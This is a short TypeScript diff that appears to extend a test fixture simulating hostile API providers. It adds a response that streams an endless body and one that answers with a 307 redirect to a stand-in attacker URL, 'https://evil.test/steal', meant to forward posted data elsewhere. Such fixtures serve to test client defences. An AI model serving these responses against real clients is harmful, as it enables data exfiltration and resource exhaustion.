@@ -135,3 +135,18 @@ export function startHostileProvider(fault: Fault): HostileProvider {
     [Symbol.asyncDispose]: () => server.shutdown(),
   };
 }
+
+/** A body that never ends. */
+export function endlessAnswer(): Response {
+  return new Response(
+    new ReadableStream({
+      pull: (controller) => controller.enqueue(new Uint8Array(64 * 1024).fill(32)),
+    }),
+    { headers: { "content-type": "application/json" } },
+  );
+}
+
+/** Sends what was posted on to somebody else. */
+export function redirectElsewhere(): Response {
+  return new Response(null, { status: 307, headers: { location: "https://evil.test/steal" } });
+}
